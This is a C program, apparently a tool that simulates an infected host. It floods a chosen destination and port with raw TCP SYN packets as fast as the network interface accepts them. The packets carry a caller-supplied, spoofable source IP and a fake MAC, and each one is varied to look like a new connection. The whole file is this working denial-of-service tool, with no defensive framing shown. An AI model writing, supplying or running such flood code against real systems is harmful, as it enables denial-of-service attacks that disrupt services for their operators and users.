/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * syns.c - an infected machine: SYNs as fast as they go, each of another connection.
 *
 *     syns DEVICE TO_MAC SOURCE DESTINATION PORT COUNT
 *
 * Addresses are of IPv4. Prints "sent COUNT" when the interface has taken all of them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64

struct frame {
	struct ethhdr ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t sum_of(const void *bytes, size_t n, uint32_t sum)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i < n; i++)
		sum += i & 1 ? at[i] : (uint32_t)at[i] << 8;
	return sum;
}

static uint16_t folded(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void number(struct frame *frame, uint32_t n)
{
	uint32_t sum;

	frame->ip.id = htons((uint16_t)n);
	frame->ip.check = 0;
	frame->ip.check = folded(sum_of(&frame->ip, sizeof(frame->ip), 0));
	frame->tcp.source = htons((uint16_t)(1024 + n % 60000));
	frame->tcp.seq = htonl(n * 2654435761u);
	frame->tcp.check = 0;
	sum = sum_of(&frame->ip.saddr, 8, IPPROTO_TCP + sizeof(frame->tcp));
	frame->tcp.check = folded(sum_of(&frame->tcp, sizeof(frame->tcp), sum));
}

static void prepare(struct frame *frame, char **argv)
{
	uint8_t *mac = frame->ethernet.h_dest;

	memset(frame, 0, sizeof(*frame));
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		   &mac[4], &mac[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &frame->ip.saddr) != 1 ||
	    inet_pton(AF_INET, argv[4], &frame->ip.daddr) != 1) {
		fprintf(stderr, "syns: not an address\n");
		exit(2);
	}
	memcpy(frame->ethernet.h_source, "\x02\0\0\0\0\x66", 6);
	frame->ethernet.h_proto = htons(ETH_P_IP);
	frame->ip.version = 4;
	frame->ip.ihl = 5;
	frame->ip.tot_len = htons(sizeof(frame->ip) + sizeof(frame->tcp));
	frame->ip.ttl = 64;
	frame->ip.protocol = IPPROTO_TCP;
	frame->tcp.dest = htons((uint16_t)atoi(argv[5]));
	frame->tcp.doff = 5;
	frame->tcp.syn = 1;
	frame->tcp.window = htons(65535);
}

int main(int argc, char **argv)
{
	static struct frame frames[BATCH];
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	uint32_t count, sent = 0;

	if (argc != 7) {
		fprintf(stderr, "usage: syns DEVICE TO_MAC SOURCE DESTINATION PORT COUNT\n");
		return 2;
	}
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_IP),
				 .sll_ifindex = (int)if_nametoindex(argv[1])};
	/* Protocol 0: nothing is received. */
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		die(argv[1]);
	count = (uint32_t)strtoul(argv[6], NULL, 10);
	memset(messages, 0, sizeof(messages));
	while (sent < count) {
		unsigned int n = count - sent < BATCH ? count - sent : BATCH;
		for (unsigned int i = 0; i < n; i++) {
			prepare(&frames[i], argv);
			number(&frames[i], sent + i);
			parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
			messages[i].msg_hdr.msg_iov = &parts[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		int taken = sendmmsg(fd, messages, n, 0);
		if (taken < 0 && errno != ENOBUFS && errno != EINTR)
			die("sendmmsg");
		sent += taken > 0 ? (uint32_t)taken : 0;
	}
	printf("sent %u\n", sent);
	return 0;
}
